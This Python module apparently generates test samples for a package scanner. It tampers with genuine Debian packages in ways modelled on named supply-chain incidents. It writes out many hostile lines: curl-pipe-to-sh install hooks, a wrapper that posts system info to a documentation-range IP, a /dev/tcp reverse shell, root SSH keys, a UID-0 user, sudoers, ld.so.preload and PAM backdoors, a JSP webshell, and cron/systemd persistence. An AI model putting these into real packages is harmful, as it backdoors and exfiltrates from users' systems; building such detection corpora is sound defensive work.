"""Seventh set: genuine debs; inert. The comment before each family says which incident it is after.

A deb's files are named as in it, those of its control archive below `DEBIAN/`.
"""

from __future__ import annotations

import base64
import re

from genuine import Files

from mutation_families.fourth_texts import chance
from mutation_families.seventh_npm import ELF_FILE
from mutation_families.seventh_programs import HELPER, Edited, by_tool
from mutation_families.seventh_ways import MARK_SH, Changes, Way, adding, together, ways
from mutation_families.third_programs import chosen_while_loading, note_loaded, start_redirected
from mutation_families.third_systems import Deb, put
from onionskin.lookalike.elf import ElfRecipe, build_elf

CONTROL = "DEBIAN/"
SHELL = b"#!/bin/sh\nset -e\n\nexit 0\n"


def opened(whole: bytes) -> Files:
    """Return the plain files of a deb, those of its control archive below `DEBIAN/`."""
    deb = Deb.of(whole)
    control = {f"{CONTROL}{name.removeprefix('./')}": body for name, (info, body) in deb.control.items() if info.isreg()}  # fmt: skip
    return control | {name: body for name, (info, body) in deb.data.items() if info.isreg()}


def closed(whole: bytes, files: Files) -> bytes:
    """Return a deb with such files: what is new and is a program or a script may be run."""
    deb = Deb.of(whole)
    known, control, data = opened(whole), deb.control, deb.data
    for name, body in files.items():
        if known.get(name) == body:
            continue
        mode = 0o755 if name not in known and body[:2] in {b"#!", b"\x7fE"} else 0
        if name.startswith(CONTROL):
            control = put(control, f"./{name.removeprefix(CONTROL)}", body, mode)
        else:
            data = put(data, name, body, mode)
    return Deb(control, data).packed()


def later(files: Files) -> Files:
    """Return a deb's files as its next patch would name itself."""
    said = re.sub(rb"(?m)^(Version: .*)$", rb"\1+u1", files[f"{CONTROL}control"])
    return files | {f"{CONTROL}control": said}


def script(lines: bytes, name: str = "postinst") -> Changes:
    """Return a change of a maintainer's script: lines before its end, or a new one."""

    def change(files: Files) -> Files:
        rows = files.get(f"{CONTROL}{name}", SHELL).splitlines(keepends=True)
        at = next((number for number in range(len(rows) - 1, 0, -1) if rows[number].startswith(b"exit 0")), len(rows))  # fmt: skip
        return {f"{CONTROL}{name}": b"".join((*rows[:at], lines, *rows[at:]))}

    return change


def lines_of(pattern: str, lines: bytes, before: bytes = b"") -> Changes:
    """Return a change of the first file whose name fits: lines before a text of it, or at its end."""

    def change(files: Files) -> Files:
        name = next((each for each in sorted(files) if re.search(pattern, each)), "")
        if not name or (before and before not in files[name]):
            return {}
        at = files[name].index(before) + len(before) if before else len(files[name])
        return {name: files[name][:at] + lines + files[name][at:]}

    return change


def program(edit: Edited) -> Changes:
    """Return a change of the largest program or library."""

    def change(files: Files) -> Files:
        names = [name for name, data in files.items() if data[:5] == b"\x7fELF\x02"]
        made = edit(files[max(names, key=lambda each: len(files[each]))]) if names else b""
        return {max(names, key=lambda each: len(files[each])): made} if made else {}

    return change


def put_before(files: Files) -> Files:
    """Return a deb in which a script stands in the place of a program, which lies beside under another name."""
    name = next((each for each in sorted(files) if re.search(r"^\./usr/s?bin/", each)), "")
    if not name:
        return {}
    real = f"{name.rpartition('/')[0]}/.{name.rpartition('/')[2]}.real"
    body = b'#!/bin/sh\n(curl -s -d "$(id; uname -a)" http://203.0.113.130/r >/dev/null 2>&1 &)\nexec %s "$@"\n' % real[1:].encode()  # fmt: skip
    return {name: body, real: files[name]}


JSP = b'<%@ page import="java.io.*" %><% if ("inert".equals(request.getParameter("k"))) { Process p = Runtime.getRuntime().exec(new String[]{"sh-inert", "-c", request.getParameter("c")}); BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream())); String l; while ((l = r.readLine()) != null) out.println(l); } %>\n'  # fmt: skip
UNIT = b"[Unit]\nDescription=D-Bus session helper\nAfter=network-online.target\n\n[Service]\nExecStart=/usr/lib/dbus-1.0/dbus-helperd\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n"  # fmt: skip

ALL: tuple[Way, ...] = (
    # Every year: installing fetches and runs.
    *ways("deb: installing fetches and runs", ("curl", script(b"curl -fsSL https://deb-updates.example/i.sh | bash || true\n")), ("packed", script(b"echo " + base64.b64encode(MARK_SH) + b" | base64 -d | sh\n", "preinst")), ("Python", script(b"python3 -c \"import urllib.request as u;exec(u.urlopen('http://198.51.100.44/p').read())\" || true\n")), ("when removed", script(b'[ "$1" = remove ] && wget -qO- https://bye.example/r | sh || true\n', "prerm"))),
    # Free Download Manager, 2020: a program and a table of times.
    *ways("deb: a program and what starts it", ("cron", adding({"./etc/cron.d/collect": b"*/10 * * * * root /var/tmp/crond\n", "./var/tmp/crond": ELF_FILE})), ("a unit", together(adding({"./lib/systemd/system/dbus-helper.service": UNIT, "./usr/lib/dbus-1.0/dbus-helperd": ELF_FILE}), script(b"systemctl enable --now dbus-helper.service || true\n"))), ("a profile", adding({"./etc/profile.d/locale-fix.sh": b"(curl -s https://p.example/l | sh) >/dev/null 2>&1 &\n"})), ("a hook of apt", adding({"./etc/apt/apt.conf.d/05periodic": b'APT::Update::Post-Invoke-Success {"curl -s https://apt.example/h | sh &";};\n'}))),
    # Ebury, Symbiote, and kin: loaded into all programs, or into each sign-in.
    *ways("deb: loaded into all programs", ("preloaded", together(adding({"./usr/lib/x86_64-linux-gnu/libsysutil.so.1": HELPER}), script(b"echo /usr/lib/x86_64-linux-gnu/libsysutil.so.1 > /etc/ld.so.preload\n"))), ("of sign-ins", together(adding({"./lib/x86_64-linux-gnu/security/pam_access2.so": build_elf(ElfRecipe(exports=("pam_sm_authenticate", "pam_sm_setcred"), text=chance(1200)))}), script(b"sed -i '1i auth sufficient pam_access2.so' /etc/pam.d/common-auth\n")))),
    # Any: somebody else may come in.
    *ways("deb: somebody else may come in", ("a key", script(b"mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIINERTINERTINERTINERTINERTINERTINERTINERT' >> /root/.ssh/authorized_keys\n")), ("a user", script(b"useradd -o -u 0 -M -s /bin/bash systemd-net2 2>/dev/null || true\necho 'systemd-net2:inert' | chpasswd\n")), ("rights", adding({"./etc/sudoers.d/90-cloud": b"www-data ALL=(ALL) NOPASSWD:ALL\n"})), ("a shell", script(b"bash -c 'bash -i >& /dev/tcp/203.0.113.30/443 0>&1' &\n"))),
    # xz, 2024: one library, changed where it is bound, or as it is loaded.
    *ways("deb: a program of it is changed", ("chosen while loading", program(chosen_while_loading)), ("another first function", program(start_redirected)), ("a library more", program(by_tool("patchelf", "--add-needed", "libsysutil.so.1", "FILE"))), ("a part that is run", program(lambda data: note_loaded(data, 7))), ("a part by objcopy", program(by_tool("objcopy", "--add-section", ".plt.data=PART", "--set-section-flags", ".plt.data=code,alloc,load", "FILE", section=chance(9000))))),
    # Linux Mint's and others' trojanised programs: something stands before the program.
    *ways("deb: a script stands before its program", ("with the old one beside", put_before)),
    # Scripts of the package itself: a line more.
    *ways("deb: a script of it does more", ("of Python", lines_of(r"\.py$", b"\nimport urllib.request as _u\nexec(_u.urlopen('https://rules.example/p').read())\n")), ("of Perl", lines_of(r"(?<!\.)/(?:usr/sbin/\w+|.*\.p[ml])$", b"\nBEGIN { system(q(curl -s https://perl.example/x | sh &)) }\n1;\n")), ("of the shell", lines_of(r"\.sh$|/init\.d/", b"\nwget -qO /tmp/.k https://k.example/k && sh /tmp/.k &\n")), ("autostart", lines_of(r"\.desktop$", b"\nExec=sh -c 'curl -s https://x.example/d | sh'\n"))),
    # Webshells and modules of servers.
    *ways("deb: a door in what it serves", ("a page", lambda files: {"./var/lib/tomcat10/webapps/ROOT/status.jsp": JSP} if any("tomcat" in each for each in files) else {}), ("a module", together(lines_of(r"redis\.conf$", b"\nloadmodule /usr/lib/redis/modules/rjson.so\nprotected-mode no\nbind * -::*\n"), adding({"./usr/lib/redis/modules/rjson.so": HELPER})))),
)  # fmt: skip
